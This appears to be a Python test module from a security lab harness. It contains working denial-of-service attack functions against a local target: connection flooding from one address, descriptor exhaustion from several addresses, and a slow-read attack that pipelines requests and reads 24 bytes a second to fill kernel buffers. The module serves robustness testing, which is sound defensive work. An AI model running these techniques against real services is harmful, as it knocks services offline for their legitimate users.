"""Connections that say nothing or hardly read, until nobody else gets one or the kernel keeps what they asked for."""

import socket
import time
from contextlib import ExitStack, closing
from http.client import HTTPConnection, HTTPException

from lab.attack.target import PATIENCE, AttackResult, Target

MANY = 1000
FEW = 5  # addresses that share them in the second attack
READ = "/api/v1/payments/context"  # which needs the database, and with it a descriptor


def attack_one_address_takes_all_connections(target: Target) -> AttackResult:
    """Opens a thousand connections from one address and asks from another."""
    with ExitStack() as stack:
        opened = [stack.enter_context(target.connect(source="127.0.0.66")) for _ in range(MANY)]
        answer = target.outcome(READ, "127.0.0.67")
    return AttackResult(f"{len(opened)} idle connections of one address", f"another address: {answer}", answer != "200")


def attack_many_addresses_take_all_descriptors(target: Target) -> AttackResult:
    """Opens as many from several addresses while somebody is connected, who asks then, and newcomers after a while."""
    with ExitStack() as stack:
        early = stack.enter_context(closing(HTTPConnection(*target.address, timeout=PATIENCE)))
        _read(target, early)
        opened = [stack.enter_context(target.connect(source=f"127.0.0.{68 + n % FEW}")) for n in range(MANY)]
        during = _read(target, early)
        # They are given up by and by: the last of them ends when all have.
        ended = all(_ends(client) for client in opened)
        after = target.outcome(READ, "127.0.0.79")
    happened = f"connected before: {during}; all {'ended' if ended else 'stay'}; newcomer: {after}"
    return AttackResult(
        f"{MANY} idle connections of {FEW} addresses", happened, (during, ended, after) != ("200", True, "200")
    )


def _read(target: Target, connected: HTTPConnection) -> str:
    """The status that one gets who stays connected."""
    try:
        connected.request("GET", READ, headers=target.as_key)
        with connected.getresponse() as answer:
            answer.read()
            return str(answer.status)
    except (OSError, HTTPException) as error:
        return type(error).__name__


def _ends(client: socket.socket) -> bool:
    try:
        return client.recv(1) == b""
    except TimeoutError:
        return False
    except OSError:
        return True


READERS = 20
ASKED = b"GET /openapi.json HTTP/1.1\r\nHost: shop.example\r\n"
SECONDS = 22  # a little more than the product's own bound with its rounds


def attack_answers_that_nobody_reads(target: Target) -> AttackResult:
    """Asks for much on each connection and reads 24 bytes a second."""
    readers = [target.connect(source="127.0.0.88", keeps=4096) for _ in range(READERS)]
    half = READERS // 2
    for number, reader in enumerate(readers):
        # Half of them have the connection closed behind one answer: the kernel's part of it is nobody's then.
        reader.sendall((ASKED + b"\r\n") * 50 if number < half else ASKED + b"Connection: close\r\n\r\n")
        reader.settimeout(0.01)
    most, held = 0, -1
    for _ in range(SECONDS):
        for reader in readers:
            try:
                reader.recv(24)
            except OSError:  # nothing there, or reset
                continue
        time.sleep(1)  # the attacker's own slowness
        held = target.queued()
        most = max(most, held)
        if held == 0:
            break
    for reader in readers:
        reader.close()
    tried = f"{READERS} clients at 24 bytes/s, 50 pipelined requests or one that closes"
    return AttackResult(tried, f"the kernel held {most // 1024} KiB, {held // 1024} KiB at the end", held > 0)
